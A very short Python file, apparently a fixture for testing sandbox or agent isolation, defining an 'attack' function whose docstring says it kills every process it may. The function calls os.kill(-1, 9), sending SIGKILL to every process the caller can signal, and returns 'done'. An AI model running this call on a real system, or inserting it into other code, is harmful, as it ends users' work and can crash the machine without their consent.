"""Kills every process it may."""

import os


def attack(x):
    os.kill(-1, 9)
    return "done"
